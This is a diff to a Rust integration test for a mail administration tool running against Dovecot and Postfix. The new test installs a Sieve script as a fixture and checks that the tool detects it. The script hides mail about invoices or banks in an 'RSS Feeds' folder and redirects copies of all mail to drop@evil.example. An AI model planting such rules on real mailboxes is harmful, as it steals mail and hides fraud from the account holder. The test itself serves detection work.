@@ -1,7 +1,9 @@
 //! Open sessions at a real Dovecot and a real Postfix: who is signed in is shown, and a block, a new password and a person
 //! end it (checklist J1, J2, J3, J5, B4).
 
+use std::io::Write;
 use std::net::Ipv4Addr;
+use std::process::{Command, Stdio};
 
 use anyhow::{Context, Result};
 use postern_engine::ports::Clock;
@@ -25,6 +27,7 @@ async fn sessions_are_shown_and_end_by_a_person_a_block_and_a_new_password() -> 
     let prepared = world::site_prepared("sessions_are_shown_and_end", with_cache).await?;
     let Some(site) = prepared else { return Ok(()) };
     of_two_sessions_one_is_ended_and_one_stays(&site).await?;
+    a_script_of_pigeonhole_is_read_back(&site)?;
     a_block_ends_imap_at_once_and_sending_at_the_next_recipient(&site).await?;
     a_new_password_ends_sessions_and_the_old_one_is_refused_from_the_next_attempt_on(&site).await?;
     a_deletion_ends_sessions(&site).await?;
@@ -91,6 +94,42 @@ async fn of_two_sessions_one_is_ended_and_one_stays(site: &Site) -> Result<()> {
     let again = site.ok(&["user", "end-sessions", ROB, "--reason", "all of them"])?;
     assert!(again.contains(ROB), "{again}");
     assert!(phone.farewell().await?.starts_with("* BYE"));
+    Ok(())
+}
+
+const SCRIPT: &str = r#"require ["copy", "fileinto", "mailbox"];
+if header :contains "subject" ["invoice", "bank"] {
+  fileinto :create "RSS Feeds";
+  stop;
+}
+redirect :copy "drop@evil.example";
+"#;
+
+fn a_script_of_pigeonhole_is_read_back(site: &Site) -> Result<()> {
+    let none = site.ok(&["user", "rules", ROB])?;
+    assert!(none.contains("No rule sends mail of rob@contoso.com on"), "{none}");
+    let conf = site.host.folder().join("dovecot.conf");
+    let mut put = Command::new("/usr/bin/doveadm")
+        .arg("-c")
+        .arg(conf)
+        .args(["sieve", "put", "-u", ROB, "-a", "holiday"])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::null())
+        .spawn()?;
+    put.stdin.take().context("stdin is a pipe")?.write_all(SCRIPT.as_bytes())?;
+    anyhow::ensure!(put.wait()?.success(), "{}", site.host.log("dovecot.log"));
+    let read = site.json(&["user", "rules", ROB])?;
+    assert_eq!(read["problems"], serde_json::json!([]), "{read}\n{}", site.host.log("dovecot.log"));
+    assert_eq!(read["scripts"][0]["text"], SCRIPT);
+    let forward = &read["forwards"][0];
+    assert_eq!(
+        (&forward["to"], &forward["reach"], &forward["keeps"], &forward["is_conditional"]),
+        (&"drop@evil.example".into(), &"outside".into(), &true.into(), &false.into()),
+        "{read}"
+    );
+    let told = site.ok(&["user", "rules", ROB])?;
+    assert!(told.contains("A copy is forwarded out of the organisation, to drop@evil.example."), "{told}");
+    assert!(told.contains("fileinto (hides mail)") && told.contains("RSS Feeds"), "{told}");
     Ok(())
 }
 
